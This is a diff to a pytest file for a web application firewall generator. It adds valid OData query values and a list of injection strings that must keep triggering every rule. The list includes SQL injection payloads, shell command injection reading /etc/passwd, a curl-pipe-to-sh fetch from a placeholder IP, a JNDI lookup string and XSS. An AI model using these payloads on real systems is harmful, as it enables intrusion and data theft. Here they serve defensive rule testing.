@@ -211,10 +211,80 @@ REPORT_FORMULA_INJECTIONS = [  # each must fall back to every rule
     "[01]=1 into outfile '/tmp/x'",
 ]
 
+ODATA = [  # $filter, $expand, $orderby values as OData v4 clients (SAPUI5, ASP.NET Core OData) and SharePoint send
+    # corpus G held-out part, odata-api (query-filter, expand, sharepoint-items)
+    "Status eq 'Published'",
+    "Status ne 'Draft' and DeptName eq '市发展和改革委员会'",
+    "contains(Name,'不动产') or contains(Theme,'不动产')",
+    "startswith(Code,'11520000')",
+    "PromiseDays le 20 and OnlineLevel ge 3",
+    "year(UpdateTime) eq 2026",
+    "Modified gt 2026-01-01T00:00:00Z and Modified lt 2026-12-31T23:59:59+08:00",
+    "not(Status eq 'Revoked')",
+    "Theme in ('医保','交通')",
+    "IsTop eq true and Category eq '通知公告'",
+    "PublishDate ge 2025-01-01 and (Category eq '政策解读' or Category eq '新闻发布会')",
+    "ApplicantType eq Sg.Zwfw.ApplicantType'LegalPerson' and Status eq 'Accepted'",
+    "Created ge datetime'2025-01-01T00:00:00Z'",
+    "substringof('公积金',Title)",
+    "Materials($select=Name,Required,Copies;$filter=Required eq true;$orderby=Sort)",
+    "Department($select=Name,Phone),Windows($top=3)",
+    "Materials($expand=Templates($select=FileName,Url)),Fees",
+    "Resources($select=Format,Url,Size;$filter=Format eq 'CSV' or Format eq 'XLSX')",
+    "Attachments($count=true;$top=5)",
+    "Created desc",
+    "Name asc,Id",
+    # URL Conventions 4.01: lambdas, arithmetic, geo functions, cast, GUIDs, $it, null, '' escapes, dates, times
+    "Tags/any(t:t eq '社保') and Windows/all(w:w/Open eq true)",
+    "Price mul 2 add 1 gt 10 and Stock mod 2 eq 0",
+    "geo.distance(Location,geography'POINT(106.71 26.58)') lt 5000",
+    "cast(Rating,Edm.String) eq '5' and isof(Sg.Zwfw.Feedback)",
+    "Id eq 87631313-7b6b-41e3-aceb-1e6a3652a979 and Manager ne null",
+    "$it/Price gt 5 and length(Name) gt 2 and indexof(tolower(Code),'ab') ge 0",
+    "Applicant eq 'O''Brien' and hour(SubmitTime) ge 9 and OpenTime lt 17:30:00",
+    "round(Score) eq 4 and floor(Fee) le 100.5 and ceiling(Fee) ge -1.5e2",
+    "Category/Name eq '政务公开' and Flags has Sg.Zwfw.Flags'Online'",
+]
+ODATA_INJECTIONS = [  # each must fall back to every rule
+    "Name eq 'x' or 1 eq 1; drop table t--",
+    "contains(Name,'a'')) union select password from users--')",
+    "contains(Name,'a'')) union select password from users where ''a''=''a')",  # inside a literal, no comment
+    "Name eq 'a'' or ''1''=''1'",  # a tautology a concatenating backend would read after unescaping ''
+    "Name eq 'x' union select 1",
+    "Name eq 'x'; waitfor delay '0:0:5'",
+    "Name eq 'x' and sleep(5)",
+    "Name eq 'x' and 1 eq (select 1)",
+    "Name eq 'x' and extractvalue(1,concat(0x7e,version()))",
+    "Name eq 'x'\nunion select password from users",
+    "Name eq 'x' /* c */",
+    "Name eq 'x' -- c",
+    "Name eq 'x' # c",
+    "Name eq 'a\\' or 1 eq 1",
+    "Name eq '%27 or 1 eq 1",
+    "Name eq `id`",
+    "Name eq @@version",
+    "Name eq 'abc",  # an open string
+    "Name eq 'x' or 1=1",  # '=' outside an option name
+    "Name eq 'x' || 'y'",
+    "Name eq '<script>alert(1)</script>'",
+    "Name eq 'x' and cast((select version()) as int) eq 1",
+    "Materials($select=Name;cat /etc/passwd)",  # ';' not before an option
+    "Materials($select=Name);id",
+    "Materials($filter=Name eq '$(id)')",
+    "Materials($select=Name)|id",
+    "Materials($select=Name)&&id",
+    "Materials($select=Name;$filter=x eq 1;$orderby=Sort)\n;sort /etc/passwd",
+    "Materials($top=1);$(curl http://203.0.113.5/x|sh)",
+    "${jndi:ldap://203.0.113.5/a}",
+    "Name eq 'x' into outfile '/tmp/x'",
+    "order eq 1",  # a statement word as a name falls back
+]
+
 
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
 TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
-          "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS)}
+          "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
+          "odata": (ODATA, ODATA_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
@@ -235,6 +305,18 @@ def test_a_report_formula_field_leaves_the_sql_rules_and_933161_only() -> None:
     assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:formula", "ctl:ruleRemoveTargetById=933161;ARGS:formula",
                    "ctl:ruleRemoveTargetByTag=sitegroup/replaces/933161;ARGS:formula"]
     assert not any(t in last for t in ("attack-php", "attack-xss", "attack-rce", "ruleRemoveById=", "ruleRemoveByTag="))
+
+def test_an_odata_field_leaves_the_sql_rules_and_932105_only() -> None:
+    ff = FilterField(("/odata/",), ("ARGS:$filter", "ARGS:$expand"), "odata", "OData")
+    lines = filter_fields.render(ff, 12101, "cms/x")
+    assert lines[-2] == '    SecRule &ARGS:$expand "@eq 1" "t:none,chain"'
+    last = lines[-1]
+    assert filter_fields.LANGUAGES["odata"] in last
+    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
+    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:$expand", "ctl:ruleRemoveTargetById=932105;ARGS:$expand",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932105;ARGS:$expand"]
+    assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))
+
 
 @pytest.mark.parametrize("language", TABLES)
 def test_pcre2_reads_the_table_as_python_does(language: str) -> None:
